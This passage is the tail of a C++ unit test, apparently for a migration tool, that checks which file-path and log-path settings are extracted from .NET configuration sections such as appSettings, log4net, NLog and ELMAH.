    got.push_back(p.section + "|" + p.key + "|" + p.attribute + "|" + p.value +
                  (p.log ? "|log" : ""));
  EXPECT_EQ(got, (Strings{"appSettings|Drop|value|E:\\Drop",
                          "applicationSettings/App.Properties.Settings|Root|value|D:\\Data\\App",
                          "log4net|F|file|D:\\Logs\\f.log|log",
                          "nlog/targets|t|fileName|F:/Logs/${shortdate}.log|log",
                          "elmah/errorLog||logPath|D:\\Elmah|log"}));
}

}  // namespace
}  // namespace liftshift
